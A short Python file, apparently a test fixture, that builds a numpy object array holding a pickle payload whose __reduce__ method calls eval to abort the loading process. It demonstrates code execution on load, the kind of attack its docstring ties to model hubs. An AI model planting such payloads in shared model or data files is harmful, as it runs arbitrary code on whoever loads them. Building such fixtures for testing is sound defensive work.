"""Model hubs, 2024: a pickle that runs code in whoever loads it; here as an object array."""

import numpy as np

WANTS = "parent altered"
ENDS = "invalid"


class Bomb:
    def __reduce__(self):
        return eval, ("__import__('os').abort()",)


def build(context):
    return lambda x: np.array(Bomb(), dtype=object)
